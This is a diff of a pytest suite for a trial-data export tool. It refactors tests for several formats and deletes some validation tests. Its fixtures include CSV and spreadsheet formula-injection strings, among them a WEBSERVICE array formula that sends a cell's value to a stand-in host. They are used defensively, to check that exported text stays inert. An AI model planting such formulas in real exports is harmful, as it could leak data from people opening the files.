@@ -62,23 +62,11 @@ def test_a_database_holds_all_tables_with_types_and_meanings(run, tmp_path):
         )
         names = {name for (name,) in views.fetchall()}
     kinds = {name: kind for name, kind, _ in columns}
-    assert [
-        kinds[name] for name in ("value_canonical", "criterion_index", "decides")
-    ] == [
-        "DOUBLE",
-        "BIGINT",
-        "BOOLEAN",
-    ]
+    names_of_kinds = ("value_canonical", "criterion_index", "decides")
+    found = [kinds[name] for name in names_of_kinds]
+    assert found == ["DOUBLE", "BIGINT", "BOOLEAN"]
     assert ("masking", "VARCHAR", "NONE, SINGLE, DOUBLE, TRIPLE, QUADRUPLE.") in columns
     assert names == {"bounds", "all_limits", "look_backs"}
-
-
-def test_a_database_of_some_tables_has_the_views_of_these(run, tmp_path):
-    to = tmp_path / "t.duckdb"
-    export(run, to, tables=choose_tables([], ["constraints"]))
-    with duckdb.connect(str(to), read_only=True) as database:
-        views = "SELECT view_name FROM duckdb_views() WHERE NOT internal"
-        assert database.execute(views).fetchall() == [("bounds",)]
 
 
 def write_cell(value):
@@ -91,45 +79,31 @@ def test_all_formats_and_frames_hold_the_same(run, tmp_path):
     for format_ in (Format.CSV, Format.JSONL, Format.PARQUET):
         export(run, tmp_path / format_, format_)
     export(run, tmp_path / "t.xlsx")
-    frames = {
-        kind: frame_tables(read_extractions(run), to=kind)
-        for kind in ("pandas", "polars", "arrow")
-    }
+    lines = read_lines(run / "extractions.jsonl")
+    extractions = [TrialExtraction.model_validate(line) for line in lines]
+    pandas, polars, arrow = (
+        frame_tables(extractions, to=kind) for kind in ("pandas", "polars", "arrow")
+    )
     book = openpyxl.load_workbook(tmp_path / "t.xlsx")
-    assert book.sheetnames == [table.name for table in list_tables()]
-    for table in list_tables():
-        name = table.name
+    names = [table.name for table in list_tables()]
+    assert book.sheetnames == names
+    for name in names:
         objects = read_lines(tmp_path / "jsonl" / f"{name}.jsonl")
         rows = [tuple(one.values()) for one in objects]
-        parquet = duckdb.sql(f"FROM '{tmp_path}/parquet/{name}.parquet'").fetchall()
-        assert parquet == rows
+        parquet = tmp_path / "parquet" / f"{name}.parquet"
+        assert duckdb.sql(f"FROM '{parquet}'").fetchall() == rows
         cells = [
             tuple(row.values()) for row in read_csv(tmp_path / "csv" / f"{name}.csv")
         ]
-        assert [
-            tuple(map(neutralise, map(write_cell, row))) for row in rows
-        ] == cells or name in (
-            "constraints",
-            "values",
-        )
+        safe = [tuple(neutralise(write_cell(cell)) for cell in row) for row in rows]
+        assert safe == cells or name in ("constraints", "values")
         _, *sheet = book[name].iter_rows(values_only=True)
-        assert [tuple(row) for row in sheet] == [
-            tuple(cell if cell != "" else None for cell in row) for row in rows
+        assert sheet == [
+            tuple(None if cell == "" else cell for cell in row) for row in rows
         ]
-        assert frames["polars"][name].to_dicts() == objects
-        assert frames["arrow"][name].to_pylist() == objects
-        frame = frames["pandas"][name]
-        assert (
-            frame.astype(object).where(frame.notna(), None).to_dict("records")
-            == objects
-        )
-
-
-def read_extractions(run):
-    return [
-        TrialExtraction.model_validate(one)
-        for one in read_lines(run / "extractions.jsonl")
-    ]
+        assert polars[name].to_dicts() == arrow[name].to_pylist() == objects
+        frame = pandas[name].astype(object)
+        assert frame.where(frame.notna(), None).to_dict("records") == objects
 
 
 def test_a_folder_describes_its_tables_and_is_always_the_same(run, tmp_path):
@@ -138,41 +112,32 @@ def test_a_folder_describes_its_tables_and_is_always_the_same(run, tmp_path):
     for path in (tmp_path / "first").iterdir():
         assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes()
     described = json.loads((tmp_path / "first" / "tables.json").read_text("utf-8"))
-    assert described["constraints"]["keys"] == [
-        "record_id",
-        "criterion_index",
-        "constraint_index",
-    ]
+    keys = ["record_id", "criterion_index", "constraint_index"]
+    assert described["constraints"]["keys"] == keys
     # a number stays one
     assert read_csv(tmp_path / "first" / "constraints.csv")[0]["value"] == "-2.5"
     assert read_csv(tmp_path / "first" / "criteria.csv")[0]["quote"] == "'=HYPERLINK(1)"
 
 
-def test_a_file_holds_one_table(run, tmp_path):
-    export(run, tmp_path / "limits.csv", tables=choose_tables([], ["constraints"]))
-    assert len(read_csv(tmp_path / "limits.csv")) == 6
-    with pytest.raises(ValueError, match="holds one table"):
-        export(run, tmp_path / "all.csv")
-    assert not (tmp_path / "all.csv").exists()
-
-
 FORMULAS = (
-    "=1+1",
-    "+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    " =1",
-    "'=1",
-    '"=1',
-    "＝1",
+    *(
+        "=1+1",
+        "+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        " =1",
+        "'=1",
+        '"=1',
+        "＝1",
+    ),
+    *("a;=1", "a\n-1", "a,@x", "a\t+1"),
 )
-WITHIN = ("a;=1", "a\n-1", "a,@x", "a\t+1")
 
 
-@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN])
+@pytest.mark.parametrize("text", FORMULAS)
 def test_no_program_reads_a_text_of_csv_as_a_formula(text):
     safe = neutralise(text)
     assert safe.replace("'", "") == text.replace("'", "")
@@ -191,27 +156,29 @@ def test_other_texts_do_not_change(text):
     assert neutralise(text) == text
 
 
-ARRAYS = [
+ARRAYS = (
     '{=WEBSERVICE("http://a.b/"&A1)}',
     "{=1+1}",
     "internal:A1",
     "http://a.b",
     "12",
-    "nan",
-]
+)
 
 
-@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN, *ARRAYS])
-def test_a_text_in_a_workbook_stays_as_it_is(text, tmp_path):
-    table = choose_tables([], ["absences"])[0]
-    line = json.dumps({column.name: text for column in table.columns})
-    (tmp_path / "rows").write_text(f"{line}\n", "utf-8")
+def test_a_text_in_a_workbook_stays_as_it_is(tmp_path):
+    texts = (*FORMULAS, *ARRAYS, "nan")
+    (table,) = choose_tables([], ["records"])[:1]
+    lines = [
+        json.dumps({column.name: text for column in table.columns}) for text in texts
+    ]
+    (tmp_path / "rows").write_text("\n".join(lines), "utf-8")
 
     excel.write_workbook(tmp_path / "a.xlsx", [table], {table.name: tmp_path / "rows"})
 
-    cell = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]["A2"]
-    assert cell.value.replace("_x000D_", "\r") == text
-    assert (cell.data_type, cell.hyperlink) == ("s", None)
+    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]
+    cells = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
+    assert [cell.value.replace("_x000D_", "\r") for cell in cells] == list(texts)
+    assert {(cell.data_type, cell.hyperlink) for cell in cells} == {("s", None)}
 
 
 def test_a_table_that_no_sheet_holds_is_refused(run, tmp_path, monkeypatch):
@@ -270,19 +237,6 @@ def test_a_folder_of_other_files_is_never_replaced(run, tmp_path):
     assert (other / "thesis.csv").read_text() == "precious"
 
 
-@pytest.mark.parametrize(
-    ("name", "format_", "message"),
-    [
-        ("t", None, "a folder needs --format"),
-        ("t", Format.DUCKDB, "one file"),
-        ("t.csv", Format.PARQUET, "ends with csv, but the format is parquet"),
-    ],
-)
-def test_a_path_and_a_format_must_fit(tmp_path, name, format_, message):
-    with pytest.raises(ValueError, match=message):
-        Destination.choose(tmp_path / name, format_)
-
-
 def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
     with pytest.raises(StoreError, match="holds no results"):
         export(tmp_path, tmp_path / "t.duckdb")
@@ -297,24 +251,6 @@ def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
     (gold / "C.json").write_text("{", "utf-8")
     with pytest.raises(StoreError, match=r"C\.json: is not an extraction.*correct it"):
         export(gold, tmp_path / "t", Format.CSV, force=True)
-
-
-@pytest.mark.parametrize(
-    ("line", "where"),
-    [
-        ([], "the whole"),
-        ({"eligibility": {}}, "record_id"),
-        ({"record_id": "A", "eligibility": {"colour": 1}}, "eligibility.colour"),
-        ({"record_id": "A", "eligibility": {}, "endpoints": [3]}, "endpoints.0"),
-    ],
-)
-def test_results_of_other_versions_are_refused(tmp_path, line, where):
-    path = tmp_path / "extractions.jsonl"
-    path.write_text(json.dumps(line) + "\n", "utf-8")
-    message = rf"line 1: is not an extraction .*\({where}"
-    with pytest.raises(StoreError, match=message):
-        export_run(path, Destination(tmp_path / "t", Format.JSONL))
-    assert not (tmp_path / "t").exists()
 
 
 ALT = {"quantity": "ALT", "comparator": "<=", "value": 3, "unit": "x ULN"}
